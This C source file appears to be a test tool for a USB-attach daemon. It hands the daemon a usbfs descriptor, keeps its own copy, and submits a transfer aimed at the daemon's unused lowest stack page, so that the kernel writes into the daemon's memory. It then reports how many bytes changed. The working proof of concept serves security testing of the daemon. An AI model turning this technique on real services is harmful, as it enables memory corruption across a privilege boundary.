/* SPDX-License-Identifier: MIT
 * usb_give.c - passes a usbfs descriptor to a daemon, keeps it, and attacks the daemon through it
 *
 * usb-give CONTROL-SOCKET NODE PID [UID] makes the daemon PID attach the device. Then it submits a
 * transfer on its own descriptor. The transfer's buffer and urb are at an address that the daemon
 * has mapped too: the lowest page of the daemon's stack, which the daemon does not use. The kernel
 * writes the device's descriptor to that address in the process that reaps the transfer. usb-give
 * prints the answer, then "GIVEN daemon=BYTES giver=BYTES": how many bytes of the page have changed
 * in the daemon and in usb-give. With a UID it becomes that user after opening the node, and ends
 * after the answer. Status 1: the attack could not be tried.
 */
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <linux/usbdevice_fs.h>

#include "util/compiler.h"

#define PAGE_BYTES  4096u
#define DATA_OFFSET 2048u
#define ANSWER_MS   30000
#define LINE_BYTES  65536u

static void fail(const char *what)
{
	(void)printf("FAIL %s: %s\n", what, strerror(errno));
	exit(1);
}

static int connect_to(const char *path)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	(void)snprintf(address.sun_path, sizeof(address.sun_path), "%s", path);
	if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
		fail(path);
	return fd;
}

/* Sends a request, with the descriptor @given unless that is -1, and waits for the answer's
 * line. */
static const char *ask(int control, const char *request, int given)
{
	static char line[LINE_BYTES];
	char room[CMSG_SPACE(sizeof(int))] = {0};
	struct iovec iov = {.iov_base = (void *)(uintptr_t)request,
			    .iov_len = strlen(request)};
	struct msghdr message = {.msg_iov = &iov, .msg_iovlen = 1};
	size_t len = 0;

	if (given >= 0) {
		struct cmsghdr *header;

		message.msg_control = room;
		message.msg_controllen = sizeof(room);
		header = CMSG_FIRSTHDR(&message);
		header->cmsg_level = SOL_SOCKET;
		header->cmsg_type = SCM_RIGHTS;
		header->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(header), &given, sizeof(int));
	}
	if (sendmsg(control, &message, 0) != (ssize_t)iov.iov_len)
		fail("sendmsg");
	do {
		struct pollfd wait = {.fd = control, .events = POLLIN};
		ssize_t r = poll(&wait, 1, ANSWER_MS) == 1
				    ? read(control, line + len, sizeof(line) - 1 - len)
				    : 0;

		if (r <= 0)
			fail("no answer");
		len += (size_t)r;
	} while (line[len - 1] != '\n');
	line[len] = '\0';
	return line;
}

/* The address of the lowest page of @pid's stack. */
static uint64_t find_page(const char *pid)
{
	char path[64], line[512];
	uint64_t start = 0;
	FILE *file;

	(void)snprintf(path, sizeof(path), "/proc/%s/maps", pid);
	file = fopen(path, "re");
	if (!file)
		fail(path);
	while (fgets(line, sizeof(line), file)) {
		if (strstr(line, "[stack]"))
			start = strtoull(line, NULL, 16);
	}
	(void)fclose(file);
	if (start == 0)
		fail("no stack");
	return start;
}

static void read_page(const char *pid, uint64_t address, uint8_t *bytes)
{
	_cleanup_close_ int fd = -1;
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/%s/mem", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || pread(fd, bytes, PAGE_BYTES, (off_t)address) != PAGE_BYTES)
		fail(path);
}

static unsigned count_differences(const uint8_t *a, const uint8_t *b)
{
	unsigned count = 0;

	for (unsigned i = 0; i < PAGE_BYTES; i++)
		count += a[i] != b[i];
	return count;
}

/* A GET_DESCRIPTOR of the device, which needs no claimed interface, with urb and buffer in
 * @page. */
static struct usbdevfs_urb *put_urb(uint8_t *page)
{
	static const uint8_t setup[8] = {0x80, 6, 0, 1, 0, 0, 18, 0};
	struct usbdevfs_urb *urb = (struct usbdevfs_urb *)page;

	memcpy(page + DATA_OFFSET, setup, sizeof(setup));
	*urb = (struct usbdevfs_urb){
		.type = USBDEVFS_URB_TYPE_CONTROL,
		.buffer = page + DATA_OFFSET,
		.buffer_length = sizeof(setup) + 18,
		.status = -1,
	};
	return urb;
}

int main(int argc, char **argv)
{
	uint8_t before[PAGE_BYTES], after[PAGE_BYTES], own[PAGE_BYTES];
	struct usbdevfs_urb *reaped = NULL;
	struct pollfd wait = {.events = POLLOUT};
	uint64_t address;
	uint8_t *page;
	int control;

	if (argc != 4 && argc != 5)
		return 2;
	wait.fd = open(argv[2], O_RDWR | O_CLOEXEC);
	if (wait.fd < 0)
		fail(argv[2]);
	if (argc == 5 && setuid((uid_t)atoi(argv[4])) < 0)
		fail("setuid");
	control = connect_to(argv[1]);
	(void)printf("ANSWER %s",
		     ask(control, "{\"verb\":\"attach\",\"name\":\"given\"}\n", wait.fd));
	if (argc == 5)
		return 0;
	address = find_page(argv[3]);
	page = mmap((void *)(uintptr_t)address, PAGE_BYTES, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (page == MAP_FAILED)
		fail("mmap at the daemon's address");
	read_page(argv[3], address, before);
	if (ioctl(wait.fd, USBDEVFS_SUBMITURB, put_urb(page)) < 0)
		fail("submit");
	memcpy(own, page, PAGE_BYTES);
	/* Wait until the transfer completes, or until the timeout if the daemon reaps it before we
	 * see that. Two requests then give the daemon two turns of its loop to reap it. */
	(void)poll(&wait, 1, 2000);
	for (unsigned i = 0; i < 2; i++)
		(void)ask(control, "{\"verb\":\"list\"}\n", -1);
	read_page(argv[3], address, after);
	(void)ioctl(wait.fd, USBDEVFS_REAPURBNDELAY, (void *)&reaped);
	(void)printf("GIVEN daemon=%u giver=%u\n", count_differences(before, after),
		     count_differences(own, page));
	return 0;
}
